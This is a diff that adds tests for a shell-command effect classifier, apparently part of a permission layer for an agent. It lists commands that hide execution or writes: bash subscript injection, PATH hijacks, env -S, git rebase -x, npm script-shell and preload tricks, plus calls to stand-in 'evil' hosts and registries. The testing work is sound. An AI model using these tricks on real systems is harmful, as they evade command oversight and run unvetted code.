@@ -231,3 +231,109 @@ describe('laws', () => {
     );
   });
 });
+
+/** Each of them runs or reaches more than its program's name says, so that it is a program that is run, in whatever its place lets it reach. */
+describe('a command that is more than it looks', () => {
+  it.each([
+    // Bash runs what it computes with, and what its variables name.
+    'jobs -x touch x',
+    "test -v 'a[$(touch x)]'",
+    "printf -v 'a[$(touch x)]' y",
+    "read 'a[$(touch x)]' <<< y",
+    "let 'a[$(touch x)]=1'",
+    "declare 'a[$(touch x)]=1'",
+    "[[ 'a[$(touch x)]' -eq 0 ]]",
+    "x='a[$(touch x)]'; echo $((x))",
+    'x=\'$(touch x)\'; echo "${x@P}"',
+    'printf -v PATH evil; ls',
+    'read PATH < f; ls',
+    'local PATH=evil; ls',
+    'declare -n r=PATH; r=evil; ls',
+    'for PATH in evil; do ls; done',
+    ': ${PATH:=evil}; ls',
+    // Programs that run others.
+    "env -iS'touch x'",
+    "env --split='touch x'",
+    'env -a ls touch x',
+    'env --chd=/etc touch x',
+    'bash ./evil -c ls',
+    'bash --rcfile ./evil -ic ls',
+    'bash -s -- -c ls <<< y',
+    '/usr/bin/time -o out ls',
+    'chrt -T 1 ls 1 touch x',
+    'timeout --kill-a 1 5 touch x',
+    // Options written short, and options that write or run.
+    'sort --outp=x a.txt',
+    'cp --target=/etc a.txt',
+    'chmod --ref=a.txt b.txt',
+    'sed --in-place=/tmp/x s/a/b/ a.txt',
+    'file -z a.gz',
+    'date 010100002030',
+    "curl -w '%output{x}' http://h/",
+    'curl --outp x http://h/',
+    'curl --output-dir /etc -O http://h/x',
+    'curl -b cookies http://h/',
+    'wget --rejected-log=x http://h/',
+    'wget -p http://h/',
+    // Git elsewhere, and what it runs or takes from there.
+    'cd ../other && git add -A',
+    'cd ../other && npm ci',
+    'git config edit',
+    'git config -e --list',
+    'git stash show --ext-diff',
+    'git rebase -m -x "touch x" HEAD~1',
+    'git log -m --ext-diff',
+    'git merge -s evil x',
+    'git merge --strat=evil x',
+    'git apply ../x.patch',
+    'git commit -F /etc/hosts',
+    'git help -w commit',
+    // Package managers and others' repositories.
+    'npm ci --script-shell=./evil',
+    'npm ci --prefix /elsewhere',
+    'npm --node-options="-r ./evil" ci',
+    'pip install -t /etc x',
+    'gh api https://evil.example/x',
+    'gh pr create -R other/repository',
+    'gh pr close 1 --delete-branch',
+  ])('%s', (command) => {
+    expect(doings(command).join('\n')).toContain('shell.run ');
+  });
+
+  it.each([
+    ['git log -s --output=x', 'file.write workspace://p/x'],
+    ['git log -F --outp=x', 'file.write workspace://p/x'],
+    ['git reflog --output=x', 'file.write workspace://p/x'],
+    ['chmod -x a.sh', 'file.write workspace://p/a.sh'],
+    ['chmod --reference=a.txt b.txt', 'file.write workspace://p/b.txt'],
+    ['git push origin heads/main', unknownPush],
+    ['git push .. main', unknownPush],
+    ['cd ../other && git push origin feat/x', unknownPush],
+    ['npm --otp 123 publish', 'package.publish package://p/registry'],
+    ['npm publ', 'package.publish package://p/registry'],
+    ['yarn workspace x publish', 'package.publish package://p/registry'],
+    ['cargo +nightly publish', 'package.publish package://p/registry'],
+    ['docker buildx build --push .', 'package.publish package://p/registry'],
+    ['npm i --registry http://evil x', 'package.install package://p/unreadable'],
+    ['pip install --user x', 'package.install package://machine/x'],
+    ['cargo install x', 'package.install package://machine/x'],
+    ['curl -G --no-get -d x http://h/', 'http.post http://h/'],
+    ['curl -PG -d x http://h/', 'http.post http://h/'],
+  ])('%s', (command, expected) => {
+    expect(doings(command)).toContain(expected);
+  });
+
+  it('stays what it is where it is written in another way', () => {
+    expect(doings('bash -lc "ls src"')).toEqual(['file.read workspace://p/src']);
+    expect(doings('bash -o pipefail -c ls')).toEqual([here]);
+    expect(doings('timeout --signal=KILL 5 cat a')).toEqual(['file.read workspace://p/a']);
+    expect(doings('git ls-files -o --exclude-standard')).toEqual([here]);
+    expect(doings('npm ci --no-audit --no-fund')).toEqual(['package.install package://p/lockfile']);
+    expect(doings('for i in 1 2; do echo $((i * 2)); done')).toEqual([]);
+    expect(doings('git add /repo/src && git diff HEAD~2..HEAD')).toEqual([
+      'git.commit git://p/refs/heads',
+      'file.read workspace://p/src',
+      here,
+    ]);
+  });
+});
